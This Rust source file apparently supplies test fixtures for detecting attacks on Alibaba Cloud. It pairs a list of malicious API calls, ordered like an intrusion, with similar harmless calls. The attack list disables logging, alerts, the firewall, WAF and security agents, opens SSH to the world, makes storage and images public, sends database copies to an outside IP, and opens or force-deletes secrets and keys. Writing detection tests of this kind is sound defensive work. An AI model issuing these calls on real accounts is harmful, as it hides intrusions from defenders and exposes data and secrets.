//! Calls of the attack on buckets, keys, secrets, logs and protection.

use super::steps::{AttackStep, HarmlessCall};

/// The calls in the order of an intrusion.
pub(super) const STEPS: &[AttackStep] = &[
    ("AT-LOG-001", "Actiontrail", "DeleteDataEventSelector", r#"{"TrailName":"main"}"#),
    (
        "AT-LOG-002",
        "SLS",
        "UpdateLogStore",
        r#"{"project":"company-logs","logstore":"actiontrail_main","ttl":1}"#,
    ),
    ("AT-LOG-002", "SLS", "DisableAlert", r#"{"project":"company-logs","alertName":"root_login"}"#),
    ("AT-LOG-004", "Cbn", "DeactiveFlowLog", r#"{"FlowLogId":"fl-story"}"#),
    (
        "AT-LOG-005",
        "PolarDB",
        "ModifyDBClusterAuditLogCollector",
        r#"{"DBClusterId":"pc-story","CollectorStatus":"Disabled"}"#,
    ),
    ("AT-LOG-005", "DAS", "ModifySqlLogConfig", r#"{"InstanceId":"rm-story","Enable":false}"#),
    (
        "AT-LOG-006",
        "eventbridge",
        "DisableRule",
        r#"{"EventBusName":"default","RuleName":"actiontrail-to-soc"}"#,
    ),
    ("AT-LOG-006", "Config", "StopConfigRules", r#"{"ConfigRuleIds":"cr-story"}"#),
    ("AT-LOG-006", "Cms", "DisableMetricRules", r#"{"RuleId.1":"rule-story"}"#),
    (
        "AT-DEF-001",
        "Cloudfw",
        "ModifyVpcFirewallSwitchStatus",
        r#"{"VpcFirewallId":"vfw-story","FirewallSwitch":"close"}"#,
    ),
    (
        "AT-DEF-001",
        "Cloudfw",
        "AddControlPolicy",
        r#"{"AclAction":"accept","Direction":"in","Source":"0.0.0.0/0","Destination":"192.0.2.7/32","Proto":"TCP","DestPort":"22/22"}"#,
    ),
    ("AT-DEF-002", "Sas", "PauseClient", r#"{"Uuids":"uuid-story","Value":"0"}"#),
    ("AT-DEF-002", "Sas", "UnbindAegis", r#"{"Uuids":"uuid-story"}"#),
    (
        "AT-DEF-002",
        "Sas",
        "OperateSuspiciousOverallConfig",
        r#"{"Type":"auto_breaking","Config":"off"}"#,
    ),
    (
        "AT-DEF-003",
        "waf-openapi",
        "ModifyPauseProtectionStatus",
        r#"{"InstanceId":"waf-story","PauseStatus":"1"}"#,
    ),
    (
        "AT-DEF-003",
        "waf-openapi",
        "ModifyDefenseTemplateStatus",
        r#"{"InstanceId":"waf-story","TemplateId":"2001","TemplateStatus":"0"}"#,
    ),
    (
        "AT-DATA-001",
        "Oss",
        "PutBucketPolicy",
        r#"{"bucketName":"story","policy":"{\"Statement\":[{\"Effect\":\"Deny\",\"Principal\":[\"*\"],\"Action\":[\"oss:*\"]},{\"Effect\":\"Allow\",\"Principal\":[\"*\"],\"Action\":[\"oss:GetObject\"]}]}"}"#,
    ),
    ("AT-DATA-001", "Oss", "DeleteBucketPublicAccessBlock", r#"{"bucketName":"story"}"#),
    (
        "AT-DATA-002",
        "Ecs",
        "ModifyImageShareGroupPermission",
        r#"{"ImageId":"m-story","AddGroup.1":"all"}"#,
    ),
    (
        "AT-DATA-002",
        "Ecs",
        "ModifyImageSharePermission",
        r#"{"ImageId":"m-story","AddAccount.2":"2000000000000009"}"#,
    ),
    (
        "AT-DATA-006",
        "Oss",
        "PutBucketVersioning",
        r#"{"bucketName":"story","VersioningConfiguration":{"Status":"Suspended"}}"#,
    ),
    (
        "AT-DATA-008",
        "Dts",
        "ConfigureDtsJob",
        r#"{"SourceEndpointInstanceID":"rm-story","DestinationEndpointIP":"198.51.100.99"}"#,
    ),
    ("AT-DATA-008", "dbs", "CreateFullBackupSetDownload", r#"{"BackupSetId":"bs-story"}"#),
    ("AT-DATA-010", "cas", "GetUserCertificateDetail", r#"{"CertId":"9001"}"#),
    (
        "AT-KMS-001",
        "Kms",
        "DeleteSecret",
        r#"{"SecretName":"story","ForceDeleteWithoutRecovery":"true"}"#,
    ),
    (
        "AT-KMS-001",
        "Kms",
        "SetKeyPolicy",
        r#"{"KeyId":"key-story","PolicyName":"default","Policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"RAM\":[\"*\"]},\"Action\":[\"kms:Decrypt\"]}]}"}"#,
    ),
];

/// Calls that resemble them and are everyday work.
pub(super) const HARMLESS: &[HarmlessCall] = &[
    ("dms-enterprise", "CreateDataExportOrder", r#"{"PluginParam":"***"}"#),
    ("Actiontrail", "UpdateTrail", r#"{"Name":"main"}"#),
    (
        "SLS",
        "UpdateLogStore",
        r#"{"project":"company-logs","logstore":"actiontrail_main","ttl":365}"#,
    ),
    ("SLS", "UpdateLogStore", r#"{"project":"web","logstore":"access","ttl":30}"#),
    ("Vpc", "ActiveFlowLog", r#"{"FlowLogId":"fl-story"}"#),
    (
        "PolarDB",
        "ModifyDBClusterAuditLogCollector",
        r#"{"DBClusterId":"pc-story","CollectorStatus":"Enable"}"#,
    ),
    ("eventbridge", "EnableRule", r#"{"EventBusName":"default","RuleName":"actiontrail-to-soc"}"#),
    (
        "Cloudfw",
        "ModifyVpcFirewallSwitchStatus",
        r#"{"VpcFirewallId":"vfw-story","FirewallSwitch":"open"}"#,
    ),
    (
        "Cloudfw",
        "AddControlPolicy",
        r#"{"AclAction":"accept","Direction":"in","Source":"0.0.0.0/0","Destination":"192.0.2.7/32","Proto":"TCP","DestPort":"443/443"}"#,
    ),
    ("Sas", "PauseClient", r#"{"Uuids":"uuid-story","Value":"1"}"#),
    (
        "Sas",
        "HandleSecurityEvents",
        r#"{"OperationCode":"kill_process","SecurityEventIds.1":"909"}"#,
    ),
    (
        "waf-openapi",
        "ModifyPauseProtectionStatus",
        r#"{"InstanceId":"waf-story","PauseStatus":"0"}"#,
    ),
    (
        "Oss",
        "PutBucketPolicy",
        r#"{"bucketName":"story","policy":"{\"Statement\":[{\"Effect\":\"Deny\",\"Principal\":[\"*\"],\"Action\":[\"oss:PutObject\"]}]}"}"#,
    ),
    (
        "Oss",
        "PutBucketVersioning",
        r#"{"bucketName":"story","VersioningConfiguration":{"Status":"Enabled"}}"#,
    ),
    ("Ecs", "CopyImage", r#"{"ImageId":"m-story","DestinationRegionId":"cn-hangzhou"}"#),
    (
        "Dts",
        "ConfigureDtsJob",
        r#"{"SourceEndpointInstanceID":"rm-story","DestinationEndpointIP":"10.0.0.7"}"#,
    ),
    ("cas", "GetUserCertificateDetail", r#"{"CertId":"9001","CertFilter":"true"}"#),
    ("Kms", "DeleteSecret", r#"{"SecretName":"story","RecoveryWindowInDays":"30"}"#),
];
